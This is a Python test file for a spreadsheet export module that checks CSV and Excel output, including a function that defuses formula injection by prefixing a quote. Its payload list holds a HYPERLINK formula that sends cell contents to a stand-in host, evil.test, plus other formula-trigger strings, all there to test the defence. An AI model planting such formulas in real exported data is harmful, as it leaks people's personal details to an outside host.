import csv
import datetime
import io
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from peerwork.core import spreadsheets
from peerwork.core.spreadsheets import BOM, Sheet, inert

HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A2,"Click for CV")'
PAYLOADS = [
    HYPERLINK,
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    " =1+2",
    "＝1+2",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_could_be_a_formula_gets_a_quote_in_front(payload):
    assert inert(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", [-5, -2.5, Decimal("-38500.00"), 0, True, None, datetime.date(2024, 5, 1)]
)
def test_numbers_dates_and_nothing_stay_as_they_are(value):
    assert inert(value) is value


def test_ordinary_text_is_unchanged():
    for text in ("Siân Jones", "01234 567890", "Led a council, then two.", "a=b", "'quoted"):
        assert inert(text) == text


def test_a_csv_begins_with_a_byte_order_mark_and_holds_no_formula():
    text = spreadsheets.csv_text(["name", "phone", "amount"], [["Siân", "=1+2", -5]])

    assert text.startswith(BOM)
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM))))
    assert rows == [["name", "phone", "amount"], ["Siân", "'=1+2", "-5"]]


def test_a_streamed_csv_sends_the_byte_order_mark_first_then_batches():
    chunks = list(spreadsheets.csv_chunks(["n"], ([n] for n in range(5)), batch=2))

    assert chunks[0] == BOM
    assert chunks[1:] == ["n\r\n0\r\n", "1\r\n2\r\n", "3\r\n4\r\n"]


def _sheet(content: bytes, title: str):
    return load_workbook(io.BytesIO(content))[title]


def test_a_spreadsheet_stores_formula_text_as_text_with_a_quote():
    content = spreadsheets.xlsx_bytes([Sheet("S", ["experience", "phone"], [[HYPERLINK, "=1+2"]])])

    sheet = _sheet(content, "S")
    for cell in sheet[2]:
        assert cell.data_type == "s"
        assert cell.value.startswith("'=")
    assert sheet["A2"].value == "'" + HYPERLINK


def test_a_spreadsheet_has_its_header_frozen_in_row_1_and_dates_as_dates():
    london = ZoneInfo("Europe/London")
    row = [datetime.date(2024, 5, 1), datetime.datetime(2024, 7, 1, 9, 30, tzinfo=london), -5]

    content = spreadsheets.xlsx_bytes([Sheet("S", ["on", "at", "n"], [row])], title="Peers")

    sheet = _sheet(content, "S")
    assert [c.value for c in sheet[1]] == ["on", "at", "n"]
    assert sheet.freeze_panes == "A2"
    on, at, n = sheet[2]
    assert on.is_date and on.value == datetime.datetime(2024, 5, 1)
    assert on.number_format == "yyyy-mm-dd"
    assert at.is_date and at.value == datetime.datetime(2024, 7, 1, 9, 30)  # London time
    assert (n.value, n.data_type) == (-5, "n")
    assert load_workbook(io.BytesIO(content)).properties.title == "Peers"


def test_characters_a_spreadsheet_cannot_hold_are_left_out_rather_than_failing():
    content = spreadsheets.xlsx_bytes([Sheet("S", ["text"], [["bell\x07 and \x00null"]])])

    assert _sheet(content, "S")["A2"].value == "bell and null"
